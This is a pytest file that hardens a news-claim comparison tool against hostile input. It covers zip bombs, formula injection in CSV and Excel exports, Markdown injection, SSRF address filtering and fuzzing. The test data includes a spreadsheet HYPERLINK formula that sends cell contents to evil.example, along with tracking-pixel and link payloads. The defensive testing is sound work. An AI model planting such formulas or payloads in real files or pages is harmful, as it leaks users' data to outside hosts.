"""Hostile and unlucky input (issue 12): one test per finding. Every stage linear, bounded archives, one
bad input never aborts the batch, downloads never carry live formulas, names never collide, text is
never rendered as Markdown, the fetcher refuses what it must."""

from __future__ import annotations

import io
import ipaddress
import json
import re
import subprocess
import sys
import time
import zipfile

import pandas as pd
import pytest

from comparer import settings
from comparer.api import compare_texts, extract_each, extract_texts, load_articles, read_texts
from comparer.errors import ComparisonFileError, FetchError, InputError, TooLarge, TooSlow
from comparer.export import parse_comparison_file, table_csv, to_xlsx
from comparer.fetch import _forbidden, check_url
from comparer.formats import _paragraphs_of_pdf_page, metadata_date
from comparer.load import article_from_bytes, article_from_text, decode
from comparer.segment import sentences
from comparer.ui.render import article_html, escaped, markdown_text
from tests.documents import docx_bytes, pdf_bytes

# -- 1. linear stages ----------------------------------------------------------------------------

PATHOLOGICAL = [".", "5 per cent ", "a\n", "12, ", "5-6 ", "2020 ", "January 5, 2024 ", "on Friday ",
                "20-plus ", "1.", "Breaking News Today\n", "40 people died on Friday. ", "It put the number at 40. "]


@pytest.mark.parametrize("unit", PATHOLOGICAL)
def test_a_pathological_paste_costs_time_in_proportion_to_its_length(unit):
    """Each pattern took 30 s to minutes at 50 KB before. Here 16x the text may cost at most 40x the time:
    a stage that rescans its input would cost 256x, and the margin absorbs this shared machine's noise.
    The 10x/12x bound of the issue is benchmarks/adversarial.py's, which prints the full table."""
    from comparer.extract import extract

    def seconds(size: int) -> float:
        article = article_from_text("paste.txt", (unit * (size // len(unit) + 1))[:size])
        start = time.perf_counter()
        extract(article)
        return time.perf_counter() - start

    seconds(200)  # imports and caches
    small, large = min(seconds(1_000) for _ in range(3)), min(seconds(16_000) for _ in range(2))
    assert large < max(40 * small, 0.5), (small, large)


def test_a_run_without_full_stops_is_cut_into_bounded_sentences():
    text = "figures, " * 2000
    spans = sentences(text)
    assert max(s.end - s.start for s in spans) <= settings.MAX_SENTENCE_CHARS
    assert all(text[s.end - 1] == "," for s in spans[:-1])  # cut after a comma, not inside a word
    assert len(sentences("." * 40_000)) == 40_000 // settings.MAX_SENTENCE_CHARS


def test_html_dates_and_pdf_lines_are_read_in_linear_time():
    start = time.perf_counter()
    assert metadata_date("<script " * 20_000) == (None, "")
    assert metadata_date('<meta name="date" ' * 20_000) == (None, "")
    assert _paragraphs_of_pdf_page("word\n" * 40_000).count("word") == 40_000
    assert time.perf_counter() - start < 5


def test_an_article_past_the_time_budget_is_skipped_with_its_reason(monkeypatch):
    monkeypatch.setattr(settings, "ARTICLE_SECONDS", 0.0)
    articles, _ = read_texts({"dense.txt": "5-6 " * 5000, "fine.txt": "Title here\n\nThe storm killed 40 people."})
    monkeypatch.setattr(settings, "ARTICLE_SECONDS", 0.0)
    extraction = extract_each(articles)
    assert [a.id for a in extraction.articles] == []  # a zero budget stops both, each on its own
    assert all("ARTICLE_SECONDS" in reason for reason in extraction.skipped)
    with pytest.raises(TooSlow):
        from comparer.extract import extract

        extract(articles[0])


# -- 2. archives and PDFs ------------------------------------------------------------------------

def _rezipped(raw: bytes, replace: dict[str, bytes | int]) -> bytes:
    """A copy of a zip with some members replaced: bytes as given, an int as that many zero bytes."""
    source = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            content = replace.get(member.filename, source.read(member))
            if isinstance(content, int):
                with target.open(member.filename, "w") as stream:
                    chunk = b"\0" * 1_000_000
                    for _ in range(content // len(chunk)):
                        stream.write(chunk)
            else:
                target.writestr(member, content)
    return out.getvalue()


@pytest.fixture(scope="module")
def word_file():
    return docx_bytes(["The storm killed 40 people on Friday."])


def test_a_word_zip_bomb_is_refused_before_it_is_unpacked(word_file):
    bomb = _rezipped(word_file, {"word/document.xml": 400_000_000})
    assert len(bomb) < 1_000_000
    import tracemalloc

    tracemalloc.start()
    start = time.perf_counter()
    with pytest.raises(TooLarge, match="MAX_UNPACKED"):
        article_from_bytes("bomb.docx", bomb)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert time.perf_counter() - start < 2 and peak < 200_000_000


def test_a_word_file_with_broken_xml_gets_a_message(word_file):
    broken = _rezipped(word_file, {"word/document.xml": b"<w:document><w:body><w:p>"})
    with pytest.raises(InputError, match="broken.docx: not a readable Word file"):
        article_from_bytes("broken.docx", broken)


def test_a_word_file_whose_directory_claims_an_unknown_zip_version_gets_a_message(word_file):
    """Found by the fuzz below: two bytes of the central directory overwritten ("zip file version 6.4")."""
    directory = word_file.rindex(b"PK\x01\x02")
    broken = word_file[:directory + 6] + b"\x40\x00" + word_file[directory + 8:]  # "version needed to extract"
    with pytest.raises(InputError, match="odd.docx: not a readable Word file"):
        article_from_bytes("odd.docx", broken)


def test_a_word_file_with_too_many_parts_is_refused(word_file, monkeypatch):
    monkeypatch.setattr(settings, "MAX_ARCHIVE_MEMBERS", 5)
    with pytest.raises(TooLarge, match="MAX_ARCHIVE_MEMBERS"):
        article_from_bytes("many.docx", word_file)


def test_a_pdf_over_the_page_limit_is_refused_before_its_text_is_read(monkeypatch):
    raw = pdf_bytes(["The storm killed 40 people. " * 200] * 6)
    monkeypatch.setattr(settings, "MAX_PDF_PAGES", 1)
    with pytest.raises(TooLarge, match="MAX_PDF_PAGES"):
        article_from_bytes("long.pdf", raw)


# -- 3. one bad input never aborts the batch -----------------------------------------------------

def run_cli(*args):
    return subprocess.run([sys.executable, "-m", "comparer", *args], capture_output=True, text=True, timeout=120)


def test_a_deeply_nested_json_ld_page_is_read_or_refused_alone(tmp_path):
    nested = ('<html><head><script type="application/ld+json">' + "[" * 50_000 + "]" * 50_000 +
              "</script></head><body><article><p>" + "The storm killed 40 people on Friday. " * 10 +
              "</p></article></body></html>")
    (tmp_path / "nested.html").write_text(nested)
    (tmp_path / "good.txt").write_text("Title of it\n\nSome 40 troops stayed in 2020.")
    result = run_cli("extract", str(tmp_path / "nested.html"), str(tmp_path / "good.txt"))
    assert "Traceback" not in result.stderr
    assert '"quote": "Some 40"' in result.stdout


def test_a_lower_case_weekday_is_read():
    claims = extract_texts({"a.txt": "The storm hit on friday and 40 people died."})
    assert any(c["quote"] == "40" for c in claims)


@pytest.mark.usefixtures("bad_txt_breaks_extraction")
def test_a_failure_inside_extraction_names_its_input_and_the_rest_go_on():
    articles, _ = read_texts({"bad.txt": "Title\n\n40 died.", "good.txt": "Title\n\nSome 40 troops stayed in 2020."})
    extraction = extract_each(articles)
    assert [a.id for a in extraction.articles] == ["good.txt"]
    assert extraction.skipped == ("bad.txt: could not be read (RuntimeError: a bug)",)


@pytest.mark.parametrize(("url", "words"), [
    ("http://127.0.0.1:99999/", "port"), ("http://example.org:-1/", "port"), ("http://example.org:0/", "port 0"),
])
def test_a_url_with_a_bad_port_is_a_clear_error(url, words):
    with pytest.raises(FetchError, match=words):
        check_url(url)


@pytest.mark.parametrize(("field", "value", "words"), [
    ("settings", {"threshold": "abc"}, "settings.threshold"),
    ("settings", {"threshold": 250}, "settings.threshold"),
    ("decisions", [{"a": "x#1", "b": "y#1", "decision": "agree", "colour": "red"}], "unknown field"),
    ("decisions", [{"a": "x#1", "b": "y#1", "decision": "maybe"}], "must be one of"),
    ("decisions", [{"a": 1, "b": "y#1", "decision": "agree"}], "decisions[0].a"),
    ("articles", [{"name": "a.txt", "text": "x", "published": "2024-99-99"}], "articles[0].published"),
])
def test_a_malformed_comparison_file_names_the_wrong_field(field, value, words):
    payload = {"format": "claim-comparer/1", "articles": [{"name": "a.txt", "text": "x"}], field: value}
    with pytest.raises(ComparisonFileError, match=words.replace("[", r"\[").replace("]", r"\]")):
        parse_comparison_file(json.dumps(payload).encode())


# -- 4. downloads carry no live formulas ----------------------------------------------------------

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/leak?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                 "\tTAB", "\rCR"]


def test_csv_and_excel_cells_never_start_a_formula():
    texts = {f"{cell}.txt": f"{cell}\n\nThe storm killed 40 people in 2023. {cell}" for cell in HOSTILE_CELLS[:4]}
    texts["control.txt"] = "Title\x07 here\n\nThe storm killed 41 people in 2023.\x01"
    comparison = compare_texts(texts)
    from comparer.tables import all_tables

    for name, frame in all_tables(comparison).items():
        reread = pd.read_csv(io.BytesIO(table_csv(frame)), dtype=str, keep_default_na=False)
        for value in reread.to_numpy().ravel():
            assert not str(value).startswith(("=", "+", "@", "\t", "\r")), (name, value)
            assert not (str(value).startswith("-") and not _is_number(str(value))), (name, value)
    workbook = pd.read_excel(io.BytesIO(to_xlsx(comparison)), sheet_name=None, dtype=str)
    from openpyxl import load_workbook

    sheets = load_workbook(io.BytesIO(to_xlsx(comparison)))
    formulas = [cell.value for sheet in sheets for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert formulas == [] and workbook


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_command_line_claims_csv_is_safe_too(tmp_path):
    (tmp_path / "a.txt").write_text('=HYPERLINK("x")\n\n=1+1 The storm killed 40 people in 2023.')
    result = run_cli("extract", "--format", "csv", str(tmp_path / "a.txt"))
    assert result.returncode == 0, result.stderr
    rows = pd.read_csv(io.StringIO(result.stdout), dtype=str, keep_default_na=False)
    assert not any(str(v).startswith("=") for v in rows.to_numpy().ravel())


# -- 5. duplicate names never lose data -----------------------------------------------------------

def test_two_files_with_one_name_are_two_articles(tmp_path):
    for folder, toll in (("one", 40), ("two", 90)):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "a.txt").write_text(f"Storm report\n\nThe storm killed {toll} people in Derna on "
                                                 "Sept. 10, 2023, officials said.")
    articles, failures = load_articles([tmp_path / "one" / "a.txt", tmp_path / "two" / "a.txt"])
    assert failures == [] and [a.id for a in articles] == ["one/a.txt", "two/a.txt"]
    result = run_cli("compare", str(tmp_path / "one" / "a.txt"), str(tmp_path / "two" / "a.txt"))
    verdicts = json.loads(result.stdout)["verdicts"]
    assert verdicts and {v["a"].split("#")[0] for v in verdicts} | {v["b"].split("#")[0] for v in verdicts} == {
        "one/a.txt", "two/a.txt"}


def test_the_same_file_twice_is_still_two_inputs_and_one_article(tmp_path):
    (tmp_path / "a.txt").write_text("Storm report\n\nThe storm killed 40 people in Derna in 2023.")
    articles, _ = load_articles([tmp_path / "a.txt", tmp_path / "a.txt"])
    assert [a.id for a in articles] == ["a.txt", "a.txt (2)"]


# -- 6. text is never rendered as Markdown --------------------------------------------------------

MARKDOWN_ATTACKS = ["![pixel](http://tracker.example/p.png)", "[Official figures here](http://evil.example)",
                    "http://evil.example/bare", ":red[coloured]", "$x^2$", "**bold**", "# Heading"]


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_markdown_in_text_is_escaped_for_every_renderer(attack):
    html_out = escaped(f"Before\n\n{attack}")
    assert "\n" not in html_out  # no blank line that would end the HTML block
    outside_references = re.sub(r"&#\d+;", "", html_out)
    for mark in "[]()!:$*#":
        if mark in attack:
            assert mark not in outside_references
    md = markdown_text(attack)
    assert all(md[i - 1] == "\\" for i, ch in enumerate(md) if ch in "[]()!:$*#" and i > 0) and md[0] in "\\h"


def test_an_article_after_a_blank_line_stays_text():
    article = article_from_text("a.txt", "Title here\n\nText.\n\n![x](http://tracker.example/p.png) 40 died.")
    rendered = article_html(article, [])
    assert "](" not in rendered and "\n\n" not in rendered


# -- 7. the fetcher ------------------------------------------------------------------------------

@pytest.mark.parametrize(("address", "kind"), [
    ("100.64.0.1", "shared"), ("100.127.255.254", "shared"), ("2002:7f00:0001::", "loopback"),
    ("2002:0a00:0001::", "private"), ("64:ff9b::7f00:1", "loopback"), ("64:ff9b::a9fe:a9fe", "link-local"),
    ("::ffff:10.0.0.1", "private"), ("2001:0:4136:e378:8000:63bf:80ff:fffe", "loopback"),  # Teredo, client 127.0.0.1
])
def test_addresses_that_reach_inside_a_network_are_refused(address, kind):
    """Checked on the address alone: no connection or lookup is made."""
    assert _forbidden(ipaddress.ip_address(address)) == kind


@pytest.mark.parametrize("address", ["93.184.216.34", "2002:5db8:d822::", "64:ff9b::5db8:d822", "2606:4700::1111"])
def test_public_addresses_are_allowed(address):
    assert _forbidden(ipaddress.ip_address(address)) == ""


# -- 8. smaller ----------------------------------------------------------------------------------

def test_the_python_api_refuses_empty_and_huge_texts_with_their_names(monkeypatch):
    with pytest.raises(InputError, match="a: the text is empty"):
        extract_texts({"a": ""})
    monkeypatch.setattr(settings, "MAX_TEXT_CHARS", 1000)
    with pytest.raises(InputError, match=r"big.txt: 2,000 characters .*settings.MAX_TEXT_CHARS"):
        extract_texts({"big.txt": "x " * 1000})
    with pytest.raises(InputError, match="YYYY-MM-DD"):
        extract_texts({"a.txt": "40 died."}, published={"a.txt": "yesterday"})
    articles, failures = read_texts({"a": "", "b.txt": "Title\n\n40 people died in 2023."})
    assert [a.id for a in articles] == ["b.txt"] and failures == ["a: the text is empty"]


def test_utf8_with_one_bad_byte_stays_utf8_and_says_so():
    raw = "Title\n\nThe fine was €5 million.".encode() + b"\xff"
    text, encoding = decode(raw, "a.txt")
    assert "€5 million" in text and encoding.startswith("utf-8 (1 invalid byte")
    article = article_from_bytes("a.txt", raw)
    assert "invalid byte" in article.published_note


# -- the page's heavy work runs in worker processes ----------------------------------------------

def test_work_runs_in_another_process_and_its_errors_come_back(monkeypatch):
    import os

    from comparer import workers

    monkeypatch.setattr(settings, "WORKER_PROCESSES", 1)
    assert workers.run(os.getpid) != os.getpid()
    with pytest.raises(InputError, match="a: the text is empty"):
        workers.run(extract_texts, {"a": ""})
    with pytest.raises(workers.BrokenProcessPool):
        workers.run(os._exit, 1)  # a worker that dies is replaced once, then the failure is reported
    assert workers.run(os.getpid) != os.getpid()  # and the next call gets a fresh pool
    monkeypatch.setattr(settings, "WORKER_PROCESSES", 0)
    assert workers.run(os.getpid) == os.getpid()


# -- fuzzing every loader and extraction: only the project's own errors, in bounded time -----------

from hypothesis import HealthCheck, given  # noqa: E402
from hypothesis import settings as hypothesis_settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from comparer.errors import ComparerError  # noqa: E402

SIGNATURES = st.sampled_from([b"%PDF-1.7\n", b"PK\x03\x04", b"PK\x03\x04word/", b"<html><body>", b"\xef\xbb\xbf",
                              b"\xff\xfe", b"", b"Title\n\n"])
FUZZ_SECONDS = 5.0
"""Each fuzzed input is at most a few kilobytes; any one taking longer than this is a hang in the making."""


def _mutations_of(base: bytes):
    """A real file with a few bytes overwritten: how a truncated download or a hostile file looks."""
    return st.lists(st.tuples(st.integers(0, len(base) - 1), st.binary(min_size=1, max_size=16)), min_size=1,
                    max_size=6).map(lambda cuts: _overwritten(base, cuts))


def _overwritten(base: bytes, cuts: list[tuple[int, bytes]]) -> bytes:
    out = bytearray(base)
    for at, chunk in cuts:
        out[at:at + len(chunk)] = chunk
    return bytes(out)


SAMPLE = ["The storm killed 40 people on Friday, and 12 were injured."] * 3


@hypothesis_settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.tuples(SIGNATURES, st.binary(max_size=3000)).map(lambda p: p[0] + p[1]),
                 _mutations_of(docx_bytes(SAMPLE)), _mutations_of(pdf_bytes(SAMPLE))))
def test_every_loader_raises_only_its_own_errors_and_ends_in_time(raw):
    start = time.perf_counter()
    for name in ("fuzz.txt", "fuzz.docx", "fuzz.pdf"):
        try:
            articles, failures = read_texts({name: raw})
            extraction = extract_each(articles)
        except ComparerError:
            continue
        for reason in (*failures, *extraction.skipped):
            assert reason.startswith(name) and "could not be read (" not in reason, reason  # no unexpected type
        for claim in extraction.claims:
            article = extraction.articles[0]
            assert article.text[claim.start:claim.end] == claim.quote
    assert time.perf_counter() - start < FUZZ_SECONDS
